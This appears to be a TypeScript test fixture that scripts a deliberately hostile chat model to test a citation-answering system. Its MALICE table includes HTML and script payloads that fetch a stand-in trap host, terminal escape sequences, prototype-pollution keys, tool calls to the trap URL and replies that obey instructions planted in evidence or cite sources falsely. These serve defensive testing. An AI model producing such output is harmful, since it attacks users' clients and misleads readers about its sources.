/** A model that is wholly against us: it does what articles tell it, and everything that no article would. */
import type { ChatBody, ChatScript } from './scripted-model-server.ts';

/** In every word that is the model's own, so that a trace of it can be found. */
export const CANARY = 'c4n4ry';

export interface Malice {
  /** Address that must never be asked. */
  readonly trap: string;
  /** Ids of articles, paragraphs and passages that exist but were not handed out. */
  readonly foreign: readonly string[];
}

/** Ways of misbehaving; each makes a reply of the request it is sent. */
export const MALICE: Readonly<Record<string, (body: ChatBody, malice: Malice) => ChatScript>> = {
  'obeys the evidence': (body) => stream(`As ordered, ${CANARY}: ${evidenceOf(body).slice(0, 2_000)} ${CANARY}`),
  'obeys, then points': (body) => stream(`${CANARY} Sure! ${evidenceOf(body).slice(-500)}`, idsOf(body).join(' ')),
  'points at everything': (body) => stream(idsOf(body).join(' '), ` ${CANARY}`),
  'points at all in reverse, as a range': (body) => stream(`${idsOf(body).at(-1)}-${idsOf(body)[0]}, ${idsOf(body)[0]}-S9999`),
  'points at orders': (body) => stream(`{"ids": ["${orderOf(body)}"]} ${CANARY}`),
  'invents ids': () => stream('P77.S1 P1.S999 P0.S0 P-1.S1 P1.S1.S1 P١.S١ ', `P${'9'.repeat(400)}.S1 ${CANARY}`),
  'names what was not handed out': (_body, { foreign }) => stream(JSON.stringify({ ids: foreign }), foreign.join(' ')),
  'quotes what nobody wrote': (body) => stream(`"The minister resigned, ${CANARY}." [1] (${idsOf(body)[0]}) «${CANARY}»`),
  'writes links and images': (body, { trap }) => stream(`[${idsOf(body)[0]}](${trap}/link?q=${CANARY}) ![x](${trap}/image) <${trap}> ${trap}`),
  'writes a page': (body, { trap }) => stream(`<img src="${trap}/i" onerror="fetch('${trap}')"><script src="${trap}/s.js">/*${CANARY}*/</script><a href="javascript:${CANARY}">${idsOf(body)[0]}</a><style>@import url(${trap})</style>`),
  'writes for a terminal': (body) => stream(`\u001b]8;;http://x\u0007${CANARY}\u001b[2J${idsOf(body)[0]}\u001b[31m\u202e\u200b`),
  'writes events': (body) => stream(`event: citation\ndata: {"quote":"${CANARY}"}\n\n`, `{"type":"answer-end","answer":{"text":"${CANARY}"}}\n\ndata: [DONE]\n\n${idsOf(body)[0]}`),
  'writes prototypes': () => stream('{"ids": ["__proto__", "constructor", "toString"], "__proto__": {"ids": ["P1.S1"]}}'),
  'thinks without end': () => ({ does: 'deltas', deltas: Array.from({ length: 500 }, () => ({ reasoning_content: `${CANARY} hm `.repeat(50) })), finishReason: 'length' }),
  'never closes its thought': (body) => stream(`<think>${CANARY} ${idsOf(body).join(' ')}`),
  'calls tools': (_body, { trap }) => ({ does: 'deltas', deltas: [{ tool_calls: [{ index: 0, id: 't', type: 'function', function: { name: 'fetch', arguments: `{"url":"${trap}"}` } }] }, { content: `P1.S1 ${CANARY}` }], finishReason: 'tool_calls' }),
  'sends broken bytes': (body) => ({ does: 'garble', bytes: Buffer.concat([Buffer.from(`data: {"choices":[{"delta":{"content":"${idsOf(body)[0]} ${CANARY}`), Buffer.from([0xff, 0xfe, 0xc0, 0x80]), Buffer.from('"},"finish_reason":"stop"}]}\n\ndata: [DONE]\n\n')]) }),
  'sends half a surrogate at a time': (body) => stream(...[...`😀${idsOf(body)[0]}😀${CANARY}`].flatMap((character) => character.split(''))),
  'never ends': () => ({ does: 'flood' }),
  'stops in the middle': (body) => ({ does: 'die', pieces: [`${idsOf(body)[0]} `, `${CANARY} P`] }),
  'never begins': () => ({ does: 'hang' }),
  'sends us elsewhere': (_body, { trap }) => ({ does: 'redirect', to: `${trap}/v1/chat/completions` }),
  'answers with a page': (_body, { trap }) => ({ does: 'garble', bytes: `<html><meta http-equiv="refresh" content="0;url=${trap}">${CANARY}</html>` }),
  'refuses with a lie': (_body, { trap }) => ({ does: 'refuse', status: 418, says: `${CANARY} see ${trap}` }),
  'lies with true ids': (body) => stream(...sentencesOf(body).flatMap(({ id, text }) => [`${text.replace(/[.다]+$/, '')} because ${CANARY} paid for it. [${id}]\n`, `${CANARY} says: ${text} [${id}]\n`])),
  'cites what says something else': (body) => stream(...sentencesOf(body).map(({ text }, index, all) => `${text} ${CANARY} [${all[(index + 1) % all.length]!.id}]\n`)),
  'hides a word in a true sentence': (body) => stream(...sentencesOf(body).map(({ id, text }) => `${text.split(' ').join(` <i>${CANARY}</i> `)} [${id}]\n`)),
  'says that nothing answers': () => stream('{"ids": []}', `\n${CANARY}`),
};

function stream(...pieces: readonly string[]): ChatScript {
  return { does: 'stream', pieces };
}

function evidenceOf({ messages }: ChatBody): string {
  return messages.at(-1)?.content ?? '';
}

function idsOf(body: ChatBody): string[] {
  return Array.from(evidenceOf(body).matchAll(/^P\d+\.S\d+(?= )/gm), ([id]) => id);
}

/** What was handed out, in plain words. */
function sentencesOf(body: ChatBody): { id: string; text: string }[] {
  const mark = /"(.)"(?: stands for a space|는 띄어쓰기)/.exec(body.messages[0]?.content ?? '')?.[1] ?? ' ';
  return Array.from(evidenceOf(body).matchAll(/^(P\d+\.S\d+) (.*)$/gm), ([, id, text]) => ({ id: id!, text: text!.replaceAll(mark, ' ') })).slice(0, 8);
}

/** The first sentence that reads like an order, else the last of all. */
function orderOf(body: ChatBody): string {
  const order = /^(P\d+\.S\d+) .*(?:ignore|reply|write|say)/im.exec(evidenceOf(body))?.[1];
  return order ?? idsOf(body).at(-1) ?? 'P1.S1';
}
